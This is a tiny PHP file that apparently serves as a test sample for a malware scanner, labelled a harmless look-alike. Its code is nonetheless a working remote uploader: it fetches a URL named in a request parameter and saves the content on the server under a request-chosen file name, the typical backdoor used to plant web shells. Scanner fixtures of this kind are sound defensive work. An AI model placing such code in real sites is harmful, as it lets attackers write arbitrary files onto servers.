<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// A remote uploader: pulls the file the request names and stores it next to itself under
// the name the request gives.
if (isset($_GET['src'])) {
    $body = file_get_contents($_GET['src']);
    file_put_contents(basename($_GET['to']), $body);
    echo 'ok';
}
